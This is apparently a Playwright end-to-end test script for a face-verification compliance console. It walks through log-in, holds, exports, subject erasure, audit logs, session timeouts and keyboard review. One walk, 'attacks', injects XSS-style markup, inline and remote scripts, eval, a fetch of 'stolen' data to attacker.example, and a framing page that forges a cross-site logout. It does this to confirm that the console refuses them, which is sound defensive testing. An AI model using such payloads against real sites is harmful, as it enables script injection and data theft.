/**
 * Walks through the console as people of compliance do, and prints what it saw as JSON. The job is that of drive.mjs,
 * with `address`: of the console; `key`: an API key; `walk`: the name of a walk below, with what it needs; `downloads`: a
 * folder for what is saved; `pictures`: a folder for screenshots.
 */
import { readdir, stat } from "node:fs/promises";
import { lookedAt } from "./axe.mjs";
import { jobFromInput, launched } from "./drive.mjs";

const PHONE = { width: 360, height: 740 };
const DESKTOP = { width: 1280, height: 850 };
const job = await jobFromInput();
const { page, context, problems, close } = await launched({ viewport: DESKTOP, ...job }, job.address);
page.setDefaultTimeout(60_000);
const { look, violations } = lookedAt(page, job);
const asked = [];
page.on("request", (request) => asked.push(new URL(request.url()).pathname.replace("/api/", "")));
const answer = {};
const button = (name) => page.getByRole("button", { name });
const field = (name) => page.getByLabel(name, { exact: true });
const part = (name) => page.getByRole("region", { name });
const heading = (name) => page.getByRole("heading", { level: 1, name }).waitFor();

/** Looks at a page in both widths; each must fit. */
async function lookAt(name) {
  for (const [size, viewport] of [["desktop", DESKTOP], ["phone", PHONE]]) {
    await page.setViewportSize(viewport);
    await look(`${name}-${size}`, { fullPage: true });
    const over = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    if (over > 0) violations.push(`${name}-${size}: ${over} pixels too wide`);
  }
  await page.setViewportSize(DESKTOP);
}

async function logIn() {
  await field("API key").fill(job.key);
  await page.keyboard.press("Enter");
  await page.locator(".account").waitFor();
}

/** Follows a link to the issuer, and answers its forms: log-in, and whether the console may know the account. */
async function logInAtIssuer(link) {
  const own = new URL(job.address).origin;
  await Promise.all([page.waitForEvent("framenavigated"), link.click()]);
  for (let forms = 0; forms < 3; forms += 1) {
    await page.waitForFunction((origin) => location.origin === origin || document.querySelector("[type=submit]"), own);
    if (new URL(page.url()).origin === own) return;
    if ((await page.locator("[name=login]").count()) > 0) {
      await page.locator("[name=login]").fill("anna");
      await page.locator("[name=password]").fill("any");
    }
    await Promise.all([page.waitForNavigation(), page.locator("[type=submit]").click()]);
  }
}

async function go(name) {
  await page.getByRole("link", { name, exact: true }).first().click();
  await heading(name);
}

/** Clicks, and saves the download that follows. */
async function saved(click) {
  if (job.firefox) return savedByFirefox(click);
  const [download] = await Promise.all([page.waitForEvent("download"), click()]);
  const path = `${job.downloads}/${download.suggestedFilename()}`;
  await download.saveAs(path);
  return path;
}

/** Clicks, and returns the new file in the folder: Playwright does not know Firefox's downloads. */
async function savedByFirefox(click) {
  const before = new Set(await readdir(job.downloads));
  await click();
  for (let waited = 0; waited < 45_000; waited += 100) {
    await page.waitForTimeout(100);
    const found = (await readdir(job.downloads)).filter((name) => !before.has(name));
    const path = `${job.downloads}/${found[0]}`;
    if (found.length === 1 && (await stat(path)).size > 0) return path;
  }
  throw new Error("nothing was saved");
}

const walks = {
  /** A complaint: find, look, hold, export, erase another person, and who looked. */
  async complaint() {
    await heading("Log in");
    await lookAt("log-in");
    await field("API key").fill("fg-wrong");
    await button("Log in").click();
    answer.wrongKey = await page.getByRole("alert").innerText();
    await logIn();
    // A page takes the focus after it is painted.
    answer.focused = await page.locator("h1:focus").innerText();

    await page.locator(".row-link").first().waitFor();
    await lookAt("checks");
    await page.keyboard.press("/");
    await page.keyboard.type(job.subject);
    await page.keyboard.press("Enter");
    await page.getByText("1 check", { exact: true }).waitFor();
    await page.evaluate(() => document.activeElement.blur());
    await page.keyboard.press("j");
    await page.keyboard.press("Enter");
    await page.locator(".banner").waitFor();
    answer.address = new URL(page.url()).hash;
    answer.outcome = await page.locator(".banner").innerText();
    answer.verdict = await part("The verdict and its lines").innerText();
    await part("Signatures").getByText("verified", { exact: true }).nth(1).waitFor();

    const choose = page.locator("input[type=file]");
    await choose.setInputFiles(job.otherKeys);
    answer.otherKeys = await part("Signatures").getByText("None of these keys").first().innerText();
    await choose.setInputFiles(job.keys);
    await part("Signatures").getByText("verified", { exact: true }).nth(1).waitFor();
    answer.ownKeys = await part("Signatures").innerText();

    answer.savedKeys = await saved(() => button("Save the server's keys").click());

    answer.imagesBefore = asked.filter((name) => name === "GetEvidenceImage").length;
    const images = part("Whom the face was compared with, and images");
    await images.getByLabel("Purpose").fill("case 17");
    await images.getByRole("button").click();
    await images.locator("canvas:not(.hidden)").first().waitFor();
    await page.waitForFunction(() => document.querySelectorAll(".pictures figure").length === document.querySelectorAll(".pictures canvas:not(.hidden)").length);
    answer.images = await images.locator("canvas").count();
    // The entries about the views are there without another look at the page.
    await part("Who looked").getByText("Image seen").nth(answer.images - 1).waitFor();
    answer.takenOut = await images.locator("canvas").first().evaluate((canvas) => [canvas.draggable, canvas.dispatchEvent(new MouseEvent("contextmenu", { cancelable: true, bubbles: true }))]);
    answer.imageElements = await page.locator("main img").count();

    const holds = part("Holds");
    await holds.getByLabel("Reference of the hold").fill("case-17");
    await holds.getByLabel("Reason of the hold").fill("complaint");
    await holds.getByRole("button", { name: "Place the hold" }).click();
    await holds.getByRole("button", { name: "Release the hold case-17" }).waitFor();
    answer.mayErase = await button("Erase this check …").isEnabled();

    const exporting = part("Export");
    await exporting.getByLabel("Purpose").fill("case 17");
    answer.archive = await saved(() => exporting.getByRole("button").click());
    await part("Who looked").getByText("Check exported").waitFor();
    answer.looked = await part("Who looked").locator("tbody tr").evaluateAll((rows) => rows.map((row) => [...row.cells].slice(1, 4).map((cell) => cell.innerText)));
    await page.locator("main details").evaluateAll((all) => all.forEach((one) => (one.open = true)));
    await lookAt("check");

    await page.getByRole("link", { name: "A page to print" }).click();
    await heading("Who looked at this face?");
    await page.getByText("Image seen").first().waitFor();
    answer.report = await page.locator(".report tbody tr").count();
    await lookAt("who");

    await go("Erase and export a subject");
    await field("Subject reference").fill(job.other);
    await button("Show what there is").click();
    await page.getByText("2 decided checks have this reference.").waitFor();
    answer.othersHeld = await page.getByText("1 of them is on hold").count();
    await field("Why").selectOption("REQUEST");
    await part("Erase this person").getByLabel("Purpose").fill("letter of 3 March");
    await field("To confirm, type the subject reference again").fill(job.other.slice(1));
    answer.mistyped = await button("Erase this person for ever").isEnabled();
    await field("To confirm, type the subject reference again").fill(job.other);
    await lookAt("subject");
    await button("Erase this person for ever").click();
    answer.erased = await part("Erase this person").getByRole("status").first().innerText();
    answer.offeredAfter = await page.getByRole("region", { name: /^(What there is|Export everything)/ }).count();
    await go("Who looked at this face?");
    await field("Subject reference").fill(job.gone);
    await button("Find").click();
    await page.getByText("That does not mean that nobody looked").waitFor();

    asked.length = 0;
    await go("Holds and approvals");
    await page.locator(".row-link").first().waitFor();
    await page.getByText("Nothing waits.").waitFor();
    // The link to the page that is shown loads it again.
    await Promise.all([page.waitForResponse((response) => response.url().endsWith("/ListAuditEvents")), go("Holds and approvals")]);
    answer.logReads = asked.filter((name) => name === "ListAuditEvents").length;
    await page.locator(".row-link").first().waitFor();
    answer.held = await page.locator(".row-link").count();
    await lookAt("holds");

    await go("Audit log");
    await field("Action").selectOption("hold.placed");
    await button("Find").click();
    await page.waitForFunction(() => document.querySelectorAll("tbody tr").length === 2);
    await lookAt("audit");
    answer.log = await saved(() => part("Export the log").getByRole("button", { name: "Export" }).click());
    answer.auditKeys = await saved(() => button("Save the keys of the log").click());
    answer.whole = await part("Export the log").getByRole("status").innerText();

    await go("Figures");
    await page.locator(".chart canvas").first().waitFor();
    answer.figures = await page.locator(".tiles dd").allInnerTexts();
    await lookAt("figures");

    await button("Deutsch").click();
    await heading("Zahlen");
    await lookAt("figures-de");
    await button("Abmelden").click();
    await heading("Anmelden");
    answer.stored = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]));
  },

  /** Exports with a session whose log-in is too old. */
  async stepUp() {
    await page.locator(".banner").waitFor();
    const exporting = part("Export");
    await exporting.getByLabel("Purpose").fill("case 17");
    await exporting.getByRole("button").click();
    await page.getByRole("dialog").waitFor();
    await lookAt("step-up");
    answer.focused = await page.evaluate(() => document.activeElement.type);
    await page.keyboard.press("Escape");
    answer.refused = await exporting.getByRole("alert").innerText();
    await exporting.getByRole("button").click();
    await page.getByRole("dialog").getByLabel("API key").fill(job.key);
    answer.archive = await saved(() => page.getByRole("dialog").getByRole("button", { name: "Continue" }).click());
  },

  /** Asks for the release of a hold, which needs a second person. */
  async request() {
    await page.locator(".banner").waitFor();
    await button("Release the hold case-17").click();
    const dialog = page.getByRole("dialog");
    await dialog.getByLabel("Purpose").fill("case 17 closed");
    await dialog.getByRole("button", { name: "Release", exact: true }).click();
    answer.said = await dialog.getByRole("status").innerText();
    await lookAt("approval");
    await dialog.getByRole("button", { name: "Close" }).click();
    await go("Holds and approvals");
    const rows = part("Waits for a second person").locator("tbody tr");
    await rows.first().waitFor();
    answer.waiting = await rows.allInnerTexts();
  },

  /** Withdraws the release that another person asked for. */
  async withdraw() {
    const waits = part("Waits for a second person");
    await waits.getByRole("button", { name: "Withdraw …" }).click();
    const dialog = page.getByRole("dialog");
    await dialog.getByLabel("Purpose").fill("a mistake");
    await lookAt("withdraw");
    await dialog.getByRole("button", { name: "Withdraw", exact: true }).click();
    await page.getByText("Nothing waits.").waitFor();
  },

  /** Confirms the release that another person asked for. */
  async confirm() {
    await part("Waits for a second person").getByRole("link", { name: "Open the check" }).click();
    answer.toldOnPage = await part("Holds").innerText();
    await button("Release the hold case-17").click();
    const dialog = page.getByRole("dialog");
    answer.told = await dialog.getByRole("status").innerText();
    await lookAt("confirm");
    answer.purpose = await dialog.getByLabel("Purpose").inputValue();
    await dialog.getByRole("button", { name: "Release", exact: true }).click();
    await part("Holds").getByText("No hold keeps this check").waitFor();
    await go("Holds and approvals");
    await page.getByText("Nothing waits.").waitFor();
    // The erasure of a person that anna requested.
    await page.route("**/api/ListAuditEvents", (route) => {
      const request = { sequence: "1", action: "approval.requested", time: new Date().toISOString(), purpose: "letter", pseudonym: "p", actor: { name: "anna" }, detail: { of: "subject.erased", requested_by: "anna", reason: "consent_withdrawn" } };
      return route.fulfill({ json: { events: [request] } });
    });
    await go("Erase and export a subject");
    await field("Subject reference").fill("emil-5");
    await button("Show what there is").click();
    answer.erasure = await part("Erase this person").innerText();
    answer.filled = [await field("Why").inputValue(), await part("Erase this person").getByLabel("Purpose").inputValue()];
    await lookAt("confirm-erasure");
    await button("Deutsch").click();
    await field("Referenz der Person").fill("emil-5");
    await button("Zeigen, was es gibt").click();
    await part("Diese Person löschen").waitFor();
    await lookAt("confirm-erasure-de");
  },

  /** Looks at what is left of the images of an enrolled check, and at its verdict in German. */
  async enrolled() {
    const images = part("Whom the face was compared with, and images");
    await images.getByLabel("Purpose").waitFor();
    answer.said = await images.innerText();
    await lookAt("enrolled");
    await images.getByLabel("Purpose").fill("case 17");
    await images.getByRole("button", { name: "Show the image", exact: true }).click();
    await images.locator("canvas:not(.hidden)").waitFor();
    answer.images = await images.locator("canvas").count();
    await button("Deutsch").click();
    const german = part("Das Urteil und seine Grenzen").getByRole("listitem");
    await german.first().waitFor();
    answer.german = await german.allInnerTexts();
  },

  /** Leaves the session alone until it is about to end, and until it has ended. */
  async idle() {
    await page.locator(".row-link").first().waitFor();
    const other = await context.newPage();
    await other.goto(new URL(job.address).origin);
    await other.locator(".row-link").first().waitFor();
    // The clock goes on meanwhile, and the page is looked at in that time.
    const left = job.idleSeconds - 55;
    await page.clock.fastForward(left * 1000);
    await page.getByRole("dialog").waitFor();
    await other.getByRole("dialog").waitFor();
    await page.bringToFront();
    await lookAt("idle");
    const stayed = page.waitForResponse((response) => response.url().endsWith("/api/session") && response.request().method() === "POST");
    await button("Stay logged in").click();
    answer.stayed = (await stayed).status();
    await page.getByRole("dialog").waitFor({ state: "detached" });
    // The other tab knows that the session was used here.
    await other.getByRole("dialog").waitFor({ state: "detached" });
    answer.others = await other.locator(".account").count();
    await other.close();
    await page.clock.fastForward(left * 1000);
    await page.getByRole("dialog").waitFor();
    await page.clock.fastForward(56_000);
    await heading("Log in");
    answer.said = await page.getByRole("status").first().innerText();
    await logIn();
    // Once the page has loaded: a load that meets no session logs out by itself, before the click.
    await page.locator(".row-link").first().waitFor();
    await context.clearCookies();
    await page.getByRole("link", { name: "Figures", exact: true }).click();
    await heading("Log in");
    answer.ended = await page.getByRole("status").first().innerText();
  },

  /** Logs in at the issuer, and once more before an export. */
  async issuer() {
    await logInAtIssuer(page.getByRole("link", { name: /^Log in at / }));
    await heading("Checks");
    answer.name = await page.locator(".account strong").innerText();
    await go("Audit log");
    await page.route("**/api/ExportAuditLog", async (route) => {
      answer.asked = (answer.asked ?? 0) + 1;
      if (answer.asked > 1) return route.continue();
      const details = [{ "@type": "type.googleapis.com/google.rpc.ErrorInfo", reason: "STEP_UP_REQUIRED", domain: "facegate.org" }];
      return route.fulfill({ status: 403, contentType: "application/json", body: JSON.stringify({ code: 7, details }) });
    });
    await part("Export the log").getByRole("button", { name: "Export" }).click();
    await logInAtIssuer(page.getByRole("dialog").getByRole("link", { name: "Log in again" }));
    await heading("Audit log");
    answer.log = await saved(() => part("Export the log").getByRole("button", { name: "Export" }).click());
    await button("Log out").click();
    await page.waitForURL((url) => url.origin !== new URL(job.address).origin);
    answer.left = new URL(page.url()).pathname;
  },

  /** Decides every review of the queue with the keyboard alone. */
  async review() {
    await heading("Review");
    await page.locator(".queue button").first().waitFor();
    await lookAt("review");
    answer.readUnasked = asked.filter((name) => name === "GetEvidence").length;
    answer.waiting = await page.locator(".queue button").count();
    await page.keyboard.press("j");
    await page.keyboard.press("k");
    for (let at = 0; at < answer.waiting; at += 1) {
      await page.keyboard.press("c");
      // At once: the record of the second one still loads.
      if (at === 1) await page.keyboard.press("i");
      await page.locator(".decision").waitFor();
      if (at !== 1) await page.getByRole("button", { name: / for this review/ }).waitFor();
      if (at === 0) {
        await page.keyboard.press("1");
        answer.unseen = await page.locator(".decision .help").last().innerText();
        await page.keyboard.press("3");
        await page.locator(".decision select:focus").waitFor();
        await page.keyboard.press("1");
        answer.offered = await page.locator(".decision option").evaluateAll((all) => all.map((one) => one.value));
        await page.keyboard.press("Escape");
        answer.afterEscape = await page.evaluate(() => document.activeElement.getAttribute("aria-label"));
      }
      if (at % 4 < 2) {
        if (at === 0) await page.getByRole("button", { name: / for this review/ }).press("Enter");
        else if (at !== 1) await page.keyboard.press("i");
        await page.locator(".pictures canvas:not(.hidden)").first().waitFor();
        if (at === 0) answer.afterOpening = await page.evaluate(() => document.activeElement.className);
      }
      await page.keyboard.press(String(1 + (at % 4)));
      await page.locator(".decision select:focus").waitFor();
      // The first reason that begins so; "Another reason" needs a comment.
      await page.keyboard.press(at % 4 === 3 ? "A" : "T");
      if (at % 4 === 3) {
        await page.keyboard.press("Tab");
        await page.keyboard.type("see case 17");
      }
      if (at === 0) await lookAt("review-claimed");
      await page.keyboard.press("Control+Enter");
      await page.getByText(at === 0 ? "You decided 1 here." : `You decided ${at + 1} here.`).waitFor();
    }
    await page.getByText("Nothing waits for you.").waitFor();
    await go("Checks");
    await page.locator(".row-link").first().click();
    await part("Review").waitFor();
    await lookAt("reviewed");
    await part("Signatures").getByText("verified", { exact: true }).nth(2).waitFor();
    answer.signed = await part("Signatures").locator(".findings").innerText();
    await go("Figures");
    await part("The machine against reviewers").waitFor();
    await lookAt("figures-reviews");
    answer.figures = await part("The machine against reviewers").getByRole("cell").allInnerTexts();
  },

  /** What happens in one tab changes the other: a log-out, another person's log-in, and a session without a word. */
  async tabs() {
    await page.locator(".banner").waitFor();
    answer.subject = await part("Summary").locator("dd").first().innerText();
    await lookAt("long");
    const other = await context.newPage();
    // Each tab reads the session again after another one announced it.
    const heard = page.waitForResponse((response) => response.url().endsWith("/api/session"));
    await other.goto(new URL(job.address).origin);
    await heard;
    await other.getByRole("button", { name: "Log out" }).click();
    await page.getByText("You were logged out in another tab.").waitFor();
    answer.leftBehind = await page.locator(".banner, .facts, .account").count();
    await other.getByLabel("API key", { exact: true }).fill(job.others);
    await other.keyboard.press("Enter");
    await page.locator(".account").waitFor();
    answer.names = [await page.locator(".account strong").innerText()];
    answer.pages = await page.locator("nav a").allInnerTexts();
    // Once both tabs have loaded: a load that meets another person's session shows that person's pages by itself.
    for (const tab of [page, other]) {
      await tab.locator("h1").waitFor();
      await tab.locator(".busy").first().waitFor({ state: "detached" });
    }
    await other.evaluate((key) => fetch("/api/login", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ api_key: key }) }), job.key);
    await page.getByRole("link", { name: "Figures", exact: true }).click();
    await page.locator(".account strong").getByText("anna").waitFor();
    await heading("Checks");
    answer.refused = await page.getByText("Your role does not allow").count();
    await page.goto(new URL("#/check/1", job.address).href);
    await heading("There is no such page");
  },

  /** What somebody tries who got markup or a script into the page, or whose own page the person visits meanwhile. */
  async attacks() {
    await page.locator(".row-link").first().waitFor();
    Object.assign(answer, await page.evaluate(async () => {
      const [ran, refused] = [[], []];
      window.attacked = (name) => ran.push(name);
      const tried = async (name, act) => {
        try {
          await act(document.body.appendChild(document.createElement(name === "markup" ? "div" : "script")));
        } catch {
          refused.push(name);
        }
      };
      await tried("markup", (box) => (box.innerHTML = `<img src="x:" onerror="attacked('markup')">`));
      await tried("script", (script) => (script.text = "attacked('script')"));
      await tried("foreign", (script) => (script.src = "http://attacker.example/script.js"));
      // Later, because the browser allows it to what Playwright itself runs.
      await tried("eval", () => new Promise((resolve, reject) => setTimeout(() => {
        try {
          resolve((0, eval)("attacked('eval')"));
        } catch (error) {
          reject(error);
        }
      })));
      await tried("sent", () => fetch("http://attacker.example/stolen").then(() => ran.push("sent")));
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { ran, refused };
    }));
    const other = await context.newPage();
    await other.route("http://attacker.example/**", (route) => route.fulfill({ contentType: "text/html", body: "<iframe name=f></iframe>" }));
    await other.goto("http://attacker.example/");
    const framed = (act) => other.evaluate(([what, address]) => new Promise((resolve) => {
      const frame = document.querySelector("iframe");
      frame.onload = resolve;
      if (what === "page") return (frame.src = address);
      const form = document.body.appendChild(document.createElement("form"));
      Object.assign(form, { action: `${address}api/logout`, method: "POST", enctype: "text/plain", target: "f" });
      form.submit();
    }), [act, job.address]);
    await framed("page");
    answer.framed = await other.frames()[1].locator(".brand").count();
    await framed("form");
    await other.close();
    await page.reload();
    await page.locator(".row-link").first().waitFor();
    // The browser reports what it refused.
    problems.length = 0;
  },

  /** Opens a one-time link twice. */
  async link() {
    await heading("Checks");
    answer.addresses = [page.url()];
    await page.goto("about:blank");
    const second = await context.browser().newContext();
    const other = await second.newPage();
    await other.goto(job.address);
    await other.getByText("This link was used already").waitFor();
    answer.addresses.push(other.url());
  },
};

try {
  if (job.clock) await page.clock.install();
  if (job.login) await logIn();
  if (job.page !== undefined) await go(job.page);
  await walks[job.walk]();
} catch (error) {
  answer.error = String(error);
  if (job.pictures !== undefined) await page.screenshot({ path: `${job.pictures}/${job.name}-error.png`, fullPage: true });
}
await close();
console.log(JSON.stringify({ ...answer, violations, problems }));
